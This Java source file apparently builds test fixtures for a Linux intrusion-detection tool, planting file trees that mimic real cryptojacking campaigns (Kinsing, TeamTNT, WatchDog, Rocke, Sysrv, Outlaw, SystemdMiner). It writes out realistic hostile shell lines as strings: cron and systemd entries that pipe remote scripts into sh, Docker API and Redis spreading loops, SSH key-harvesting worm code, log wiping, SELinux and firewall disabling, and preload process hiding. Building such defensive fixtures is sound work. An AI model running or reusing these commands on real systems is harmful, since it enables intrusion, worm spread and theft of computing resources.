package dev.ferret.campaigns;

import java.nio.file.Path;

/**
 * Installs of real Linux cryptojacking campaigns, planted as the public analyses describe them (file places,
 * cron and systemd lines, keys, preload, killed rivals), in ferret's own words and with documentation
 * addresses (203.0.113.0/24, 198.51.100.0/24) and fake keys/wallets. Core artefacts are the ones without
 * which the campaign does not run or come back; the others are traces a responder should also see.
 */
final class Campaigns {
    static final String KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDferretTestKeyNotARealOneCampaignScenario0001 ";
    private static final String RIVALS = """
            pkill -9 -f xmrig 2>/dev/null
            pkill -9 -f kdevtmpfsi 2>/dev/null
            killall -9 kworkerds 2>/dev/null
            ps aux | grep -v grep | awk '$3>60.0{print $2}' | xargs kill -9
            """;

    private Campaigns() {
    }

    /** Kinsing / H2Miner: d.sh from a bare IP by cron, kdevtmpfsi miner and kinsing agent in /tmp, rivals killed. */
    static CampaignTree kinsing(Path root) {
        CampaignTree t = new CampaignTree(root, "web-kinsing");
        t.plant("/var/spool/cron/crontabs/root",
                "* * * * * wget -q -O - http://203.0.113.21/d.sh | sh > /dev/null 2>&1\n", "rw-------", true);
        t.plant("/tmp/d.sh", "#!/bin/sh\n" + RIVALS + """
                setenforce 0 2>/dev/null
                echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
                ufw disable >/dev/null 2>&1
                echo 0 > /proc/sys/kernel/nmi_watchdog
                chattr -i /etc/ld.so.preload
                wget -q http://203.0.113.21/kinsing -O /tmp/kinsing
                chmod +x /tmp/kinsing
                /tmp/kinsing &
                """, "rwxr-xr-x", true);
        t.plantElf("/tmp/kdevtmpfsi", true);
        t.plantElf("/tmp/kinsing", true);
        t.plant("/etc/ld.so.preload", "/etc/libsystem.so\n", "rw-r--r--", true);
        t.plantElf("/etc/libsystem.so", false);
        t.plant("/lib/systemd/system/bot.service", """
                [Unit]
                Description=bot
                [Service]
                ExecStart=/etc/kinsing
                Restart=always
                [Install]
                WantedBy=multi-user.target
                """, "rw-r--r--", true);
        t.plantElf("/etc/kinsing", true);
        return t;
    }

    /** TeamTNT: cloud agents removed, Docker API and masscan spreading, key added, hidden dir under /usr/bin. */
    static CampaignTree teamTnt(Path root) {
        CampaignTree t = new CampaignTree(root, "docker-tnt");
        t.plant("/root/.ssh/authorized_keys", KEY + "tnt@host\n", "rw-------", true);
        t.plant("/usr/bin/.../init.sh", """
                #!/bin/bash
                curl -s http://update.aegis.example.org/download/uninstall.sh | bash
                rm -rf /usr/local/aegis
                /usr/local/qcloud/stargate/admin/uninstall.sh
                pkill -9 YDService
                masscan 198.51.100.0/24 -p2375 --rate 50000 -oL .r
                awk '/open/{print $4}' .r > .hosts
                while read ip; do
                  docker -H tcp://$ip:2375 run -d --privileged -v /:/host alpine chroot /host sh -c 'curl -s http://203.0.113.31/i.sh | sh'
                done < .hosts
                history -c
                echo > /var/log/wtmp
                cat /dev/null > /var/log/secure
                """, "rwxr-xr-x", true);
        t.plant("/etc/cron.d/tnt", "*/10 * * * * root curl -fsSL http://203.0.113.31/i.sh | bash\n", "rw-r--r--", true);
        t.plantElf("/usr/bin/.../[kswapd0]", true);
        t.plant("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", "rw-r--r--", true);
        t.plantElf("/usr/local/lib/libprocesshider.so", false);
        return t;
    }

    /** WatchDog: Redis spreader script, init script guardian, hidden dir in /tmp, cron in /etc/cron.d. */
    static CampaignTree watchDog(Path root) {
        CampaignTree t = new CampaignTree(root, "redis-watchdog");
        t.plant("/etc/cron.d/root", "*/15 * * * * root (curl -fsSL http://203.0.113.41/cr.sh || wget -q -O- http://203.0.113.41/cr.sh) | sh\n",
                "rw-r--r--", true);
        t.plant("/tmp/.../cr.sh", "#!/bin/sh\n" + RIVALS + """
                for ip in $(cat /tmp/.../ips); do
                  redis-cli -h $ip set x "\\n*/5 * * * * curl -fsSL http://203.0.113.41/cr.sh | sh\\n"
                  redis-cli -h $ip config set dir /var/spool/cron
                  redis-cli -h $ip config set dbfilename root
                  redis-cli -h $ip save
                done
                """, "rwxr-xr-x", true);
        t.plantElf("/tmp/.../watchdogs", true);
        t.plant("/etc/init.d/watchdogs", "#!/bin/sh\n/tmp/.../watchdogs &\n", "rwxr-xr-x", true);
        t.plant("/etc/rc.d/rc2.d/S60watchdogs", "#!/bin/sh\n/etc/init.d/watchdogs start\n", "rwxr-xr-x", false);
        return t;
    }

    /** Rocke / 8220 gang: hourly cron fetch, miner in /var/tmp hidden dir, rivals killed, files locked. */
    static CampaignTree rocke(Path root) {
        CampaignTree t = new CampaignTree(root, "app-rocke");
        t.plant("/etc/cron.hourly/oanacroner1", "#!/bin/sh\n(curl -fsSL http://203.0.113.51/a.sh || wget -q -O- http://203.0.113.51/a.sh) | sh\n",
                "rwxr-xr-x", true);
        t.plant("/var/tmp/.xm/a.sh", "#!/bin/sh\n" + RIVALS + """
                chattr -i /etc/cron.d/root
                echo '*/30 * * * * root sh /var/tmp/.xm/a.sh' > /etc/cron.d/root
                chattr +i /etc/cron.d/root
                chattr +i /var/tmp/.xm/kthreaddi
                """, "rwxr-xr-x", true);
        t.plantElf("/var/tmp/.xm/kthreaddi", true);
        t.plant("/var/tmp/.xm/config.json", """
                {"autosave": true, "cpu": {"enabled": true, "huge-pages": true},
                 "pools": [{"url": "pool.example.org:3333", "user": "4AFerretSampLeWaLLetNotReaL", "pass": "x", "keepalive": true}]}
                """, "rw-r--r--", true);
        return t;
    }

    /** Sysrv-hello: cron loader with alternatives, worm binary in /tmp, SSH spreader with harvested keys. */
    static CampaignTree sysrv(Path root) {
        CampaignTree t = new CampaignTree(root, "db-sysrv");
        t.plant("/var/spool/cron/crontabs/root",
                "*/30 * * * * (curl -fsSL http://203.0.113.61/ldr.sh || wget -q -O - http://203.0.113.61/ldr.sh) | sh\n",
                "rw-------", true);
        t.plant("/tmp/ldr.sh", "#!/bin/sh\n" + RIVALS + """
                KEYS=$(find /root /home -maxdepth 3 -name 'id_rsa*' | grep -v pub)
                HOSTS=$(cat /root/.ssh/known_hosts | awk '{print $1}' | cut -d, -f1)
                for k in $KEYS; do for h in $HOSTS; do
                  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i $k root@$h "curl -fsSL http://203.0.113.61/ldr.sh | sh" &
                done; done
                """, "rwxr-xr-x", true);
        t.plantElf("/tmp/sysrv", true);
        t.plantElf("/tmp/kthreaddk", false);
        return t;
    }

    /** Outlaw (Shellbot): key replaced, .configrc under the user's home, @reboot and periodic cron, history off. */
    static CampaignTree outlaw(Path root) {
        CampaignTree t = new CampaignTree(root, "ssh-outlaw");
        t.plant("/root/.ssh/authorized_keys", KEY + "mdrfckr\n", "rw-------", true);
        t.plant("/home/deploy/.ssh/authorized_keys", KEY + "mdrfckr\n", "rw-------", true);
        t.plant("/var/spool/cron/crontabs/deploy", """
                5 6 * * 0 /home/deploy/.configrc/a/upd>/dev/null 2>&1
                @reboot /home/deploy/.configrc/a/upd>/dev/null 2>&1
                5 8 * * 0 /home/deploy/.configrc/b/sync>/dev/null 2>&1
                """, "rw-------", true);
        t.plant("/home/deploy/.configrc/a/upd", "#!/bin/sh\ncd /home/deploy/.configrc/a && ./run\n", "rwxr-xr-x", true);
        t.plantElf("/home/deploy/.configrc/a/kswapd0", true);
        t.plant("/home/deploy/.configrc/b/sync", """
                #!/bin/sh
                unset HISTFILE
                history -c
                echo > /var/log/wtmp
                cat /dev/null > /var/log/auth.log
                """, "rwxr-xr-x", false);
        t.plant("/tmp/.X25-unix/.rsync/initall", "#!/bin/sh\n" + RIVALS, "rwxr-xr-x", false);
        t.plant("/home/deploy/.bashrc", "alias ls='ls --color=auto'\nalias ps='ps | grep -v kswapd0'\n"
                + "nohup /home/deploy/.configrc/a/upd >/dev/null 2>&1 &\n", "rw-r--r--", false);
        return t;
    }

    /** SystemdMiner: systemd units with system-like names that re-fetch, miner under a hidden dir. */
    static CampaignTree systemdMiner(Path root) {
        CampaignTree t = new CampaignTree(root, "hpc-systemdminer");
        t.plant("/etc/systemd/system/systemd-login-agent.service", """
                [Unit]
                Description=System Login Agent
                [Service]
                ExecStart=/bin/sh -c "(curl -fsSL http://203.0.113.71/sm.sh || wget -q -O- http://203.0.113.71/sm.sh) | sh"
                Restart=always
                [Install]
                WantedBy=multi-user.target
                """, "rw-r--r--", true);
        t.plant("/etc/systemd/system/multi-user.target.wants/systemd-login-agent.service",
                "[Service]\nExecStart=/bin/sh -c \"curl -fsSL http://203.0.113.71/sm.sh | sh\"\n", "rw-r--r--", false);
        t.plantElf("/root/.systemd-service/systemd-resolve", true);
        t.plant("/var/spool/cron/crontabs/root", "*/20 * * * * /root/.systemd-service/systemd-resolve\n", "rw-------", true);
        return t;
    }
}
